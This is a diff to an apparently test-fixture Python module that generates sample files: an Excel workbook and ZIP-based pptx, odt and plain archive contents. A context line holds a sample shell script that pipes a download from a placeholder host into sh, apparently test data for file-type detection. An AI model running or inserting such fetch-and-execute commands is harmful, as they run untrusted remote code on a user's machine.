@@ -129,3 +129,33 @@ def windows_executable() -> bytes:
 
 def shell_script() -> bytes:
     return b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"
+
+
+def xlsx() -> bytes:
+    """An Excel workbook made with openpyxl (a ZIP, like a .docx)."""
+    import openpyxl
+
+    book = openpyxl.Workbook()
+    book.active["A1"] = "姓名"
+    out = io.BytesIO()
+    book.save(out)
+    return out.getvalue()
+
+
+def office_zip(kind: str) -> bytes:
+    """The parts by which other ZIP-based formats are known: "pptx" (PowerPoint), "odt"
+    (OpenDocument text, its `mimetype` entry first and stored), "zip" (a plain archive)."""
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
+        if kind == "pptx":
+            target.writestr("[Content_Types].xml", b'<Types><Override PartName="/ppt/presentation.xml" ContentType="'
+                            b'application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"/>'
+                            b"</Types>")
+            target.writestr("ppt/presentation.xml", b"<p:presentation/>")
+        elif kind == "odt":
+            target.writestr(zipfile.ZipInfo("mimetype"), b"application/vnd.oasis.opendocument.text",
+                            compress_type=zipfile.ZIP_STORED)
+            target.writestr("content.xml", b"<office:document-content/>")
+        else:
+            target.writestr("照片/1.jpg", b"\xff\xd8\xff" + b"\0" * 64)
+    return out.getvalue()
